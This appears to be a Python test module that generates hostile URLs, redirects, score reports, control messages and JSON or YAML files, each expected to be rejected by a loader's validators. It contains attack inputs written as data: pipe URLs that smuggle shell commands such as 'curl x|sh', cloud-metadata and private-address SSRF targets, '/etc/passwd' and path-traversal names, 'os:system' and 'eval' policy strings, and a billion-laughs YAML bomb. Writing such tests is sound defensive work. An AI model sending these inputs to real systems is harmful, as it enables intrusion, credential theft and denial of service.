"""URLs, redirects, scores, controls and JSON files that ask for what must not be."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

from tests.hostile.case import ACCEPTED, Case

NAN, INF = float("nan"), float("inf")
WRONG = "ValueError"
PRIVATE = """
127.0.0.1 2130706433 0x7f000001 017700000001 127.1 0.0.0.0 10.0.0.1 172.16.0.1 192.168.1.1 169.254.169.254
100.100.100.200 224.0.0.1 255.255.255.255 [::1] [::] [::ffff:169.254.169.254] [::127.0.0.1]
[64:ff9b::169.254.169.254] [2002:7f00:1::] [fe80::1] [fec0::1] [fd00:ec2::254] [ff02::1] localhost
"""
"""Hosts that no shard may be fetched from, in every spelling."""


def _urls() -> Iterator[tuple[str, str, str]]:
    for url in ("pipe:touch $TEMPERA_CANARY", "PIPE:id", "  pipe:id", "\tpipe:curl x|sh"):
        yield url, WRONG, "pipes"
    for url in ("https://a.example/{0..999999999}.tar", "x-{a,b,c}.tar", "{{0..9},{0..9}}.tar", "s3://b/{1..2}"):
        yield url, WRONG, "brace"
    for scheme in ("ftp", "gopher", "data:,x", "javascript", "ssh", "jar:file", "hf"):
        yield f"{scheme}://a/x", WRONG, "must be"
    for host in PRIVATE.split():
        yield f"https://{host}/x.tar", WRONG, "not a public address"
        yield f"http://{host}/x.tar", WRONG, "must be"
    for url in ("https://a@127.0.0.1/x", "https://user:secret@8.8.8.8/x", "s3://key:secret@bucket/x", "gs://a@b/x"):
        yield url, WRONG, "must not name a user"
    yield "https://8.8.8.8:99999/x", WRONG, ""
    yield "https://[::1/x", WRONG, ""
    yield "https://", WRONG, ""
    yield "s3://../x", WRONG, "bucket"
    yield "s3://a b/x", WRONG, "bucket"
    yield "file://evil.example/etc/passwd", WRONG, "this machine"
    yield "x\0.tar", WRONG, ""
    for device in ("/dev/zero", "/dev/random", "/dev/full", "/dev/tty", "file:///dev/zero", "/proc", "/"):
        yield device, "BadShardError", "regular file"
    yield "/nowhere/x.tar", "FileNotFoundError", ""


def _redirects() -> Iterator[tuple[str, str, str]]:
    yield "http://10.0.0.1/x", WRONG, "must be"
    yield "https://10.0.0.1/x", WRONG, "not a public address"
    yield "https://169.254.169.254/latest/meta-data/", WRONG, "not a public address"
    yield "file:///etc/passwd", WRONG, "must go to https"
    yield "//169.254.169.254/x", WRONG, "must be"
    yield "ftp://a.example/x", WRONG, "must be"
    yield "pipe:id", WRONG, "pipes"
    yield "http://user:secret@127.0.0.1/x", WRONG, "must not name a user"
    yield "/again", "StorageUnavailable", "redirects more than"
    yield "", "StorageUnavailable", ""


def _scores() -> Iterator[tuple[str, dict[str, Any], str, str]]:
    for value, reason in ((NAN, "not_finite"), (INF, "not_finite"), (-INF, "not_finite"), (-1.0, "negative")):
        yield f"a score of {value}", {"values": [0.5, value]}, ACCEPTED, f"1 taken, 1 {reason}"
    yield "a score of 1e39", {"values": [0.5, 1e39]}, ACCEPTED, "1 taken, 1 not_finite"
    for value in (-1, 8, 2**40, -(2**62)):
        yield f"id {value}", {"ids": [0, value]}, ACCEPTED, "1 taken, 1 unknown_id"
    yield "an id twice", {"ids": [1, 1]}, ACCEPTED, "2 taken"
    for what, change, says in (
        ("id of 2^70", {"ids": [0, 2**70]}, "ids must be"),
        ("ids of fractions", {"ids": [0.0, 1.0]}, "ids must be"),
        ("ids of text", {"ids": ["0", "1"]}, "ids must be"),
        ("ids nested", {"ids": [[0], [1]]}, "two lists"),
        ("ids of uneven lists", {"ids": [[0], [1, 2]]}, ""),
        ("values of text", {"values": ["0.5", "0.5"]}, "real numbers"),
        ("values of truth", {"values": [True, False]}, "real numbers"),
        ("values of nothing", {"values": [None, None]}, "real numbers"),
        ("one value", {"values": [0.5]}, "two lists"),
        ("one number", {"ids": 1, "values": 1.0}, "two lists"),
        ("a name for ids", {"ids": "all"}, "two lists"),
        ("another kind", {"kind": "os:system"}, "kind must be"),
        ("a step below 0", {"step": -1}, "step must be"),
        ("a step of 2^63", {"step": 2**63}, "step must be"),
        ("a step of NaN", {"step": NAN}, "step must be"),
        ("a step of text", {"step": "1"}, "step must be"),
        ("a step that is true", {"step": True}, "step must be"),
        ("a sequence of 2^64", {"sequence": 2**64}, "sequence must be"),
        ("no producer", {"producer": ""}, "producer must be"),
        ("a producer of 1,000", {"producer": "p" * 1000}, "producer must be"),
        ("a producer of 5", {"producer": 5}, "producer must be"),
        ("other data", {"fingerprint": "bb"}, "fingerprint"),
        ("twenty million", {"ids": {"zeros": 20_000_000}, "values": {"zeros": 20_000_000}}, "at most"),
    ):
        yield what, change, WRONG, says
    yield "a producer of other letters", {"producer": "\ud800"}, WRONG, "producer must be"


def _controls() -> Iterator[tuple[str, dict[str, Any], str, str]]:
    size, temperature = {"kind": "effective_size"}, {"kind": "temperature"}
    for value in (NAN, INF, -INF, 0, -0.1, 0.9, 1e-300, 10**400, True, "0.3", None, [0.3], {}):
        yield f"effective size {str(value)[:9]}", {**size, "value": value}, WRONG, "effective_size"
    for value in (NAN, INF, 0, -1, 1e-320, 1e300, 10**400, False, "0.1", None, [0.1]):
        yield f"temperature {str(value)[:9]}", {**temperature, "value": value}, WRONG, "temperature"
    for value in ("os:system", "posix:system", "builtins:eval", "", "prototypical*", "*", "../x", 7, None, "hard\0"):
        yield f"policy {value!r}", {"kind": "policy", "value": value}, WRONG, "policy"
    for value in ("/etc/passwd", "/dev/zero", "", 7, "/nowhere", "http://169.254.169.254/", "pipe:id"):
        yield f"distances {value!r}", {"kind": "distances", "value": value}, WRONG, ""
    for value in ("evil", "", None, 9):
        yield f"round {value!r}", {"kind": "round", "value": value}, WRONG, "round"
    yield "round without scores", {"kind": "round", "value": "pass"}, WRONG, "score for every sample"
    yield "a kind of its own", {"kind": "__class__"}, WRONG, "kind must be"
    yield "no author", {"kind": "release", "author": ""}, WRONG, "author"
    yield "the trainer's name", {"kind": "release", "author": "trainer"}, WRONG, "author"
    yield "a value for a release", {"kind": "release", "value": 0.3}, WRONG, "must be empty"
    yield "an old version", {"kind": "release", "expected_version": 99}, "VersionConflict", "99"
    yield "a lone half of a letter", {"kind": "release", "author": "a\ud800"}, ACCEPTED, ""


def _texts() -> Iterator[tuple[str, str, bytes, str, str]]:
    deep, wide = b"[" * 100_000, b'{"a":' * 50_000
    bad = {"config": WRONG, "classes": WRONG, "checkpoint state": "CheckpointError", "cluster": WRONG}
    for place, verdict in bad.items():
        for what, text in (
            ("nothing", b""),
            ("deep lists", deep),
            ("deep objects", wide),
            ("a list", b"[1]"),
            ("null", b"null"),
            ("not UTF-8", b"\xff\xfe{}"),
            ("a number of 9,000 digits", b'{"format": ' + b"9" * 9000 + b"}"),
        ):
            yield place, what, text, verdict, ""
    for what, change in (
        ("a file upwards", {"../../x.safetensors": {"bytes": 1, "crc32": 1}}),
        ("an absolute file", {"/etc/passwd": {"bytes": 1, "crc32": 1}}),
        ("another kind of file", {"model.pkl": {"bytes": 1, "crc32": 1}}),
        ("a file of no size", {"model.safetensors": {}}),
        ("a file of negative size", {"model.safetensors": {"bytes": -1, "crc32": 1}}),
        ("files in a list", ["model.safetensors"]),
        ("no files", None),
    ):
        yield "checkpoint state", what, json.dumps({"format": 1, "step": 1, "files": change}).encode(), *REFUSED
    yield "config", "an unknown field", b'{"naem": "x"}', WRONG, "name"
    yield "config", "fields missing", b'{"name": "x"}', WRONG, "configuration"
    yield "cluster", "aliases that multiply", laughs(), WRONG, ""


REFUSED = ("CheckpointError", "")


def laughs() -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    return "\n".join(lines).encode()


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def cases() -> Iterator[Case]:
    make: Callable[[], bytes]
    for family, place in ((_urls, "url"), (_redirects, "redirect")):
        for value, verdict, says in family():
            make = partial(_json, value)
            yield Case(name=f"{place}/{value!r}", place=place, verdict=verdict, says=says, make=make, suffix=".json")
    for reports, place in ((_scores, "scores"), (_controls, "control")):
        for name, change, verdict, says in reports():
            make = partial(_json, change)
            yield Case(name=f"{place}/{name}", place=place, verdict=verdict, says=says, make=make, suffix=".json")
    for place, name, text, verdict, says in _texts():
        make = partial(bytes, text)
        yield Case(name=f"{place}/{name}", place=place, verdict=verdict, says=says, make=make, suffix=".json")
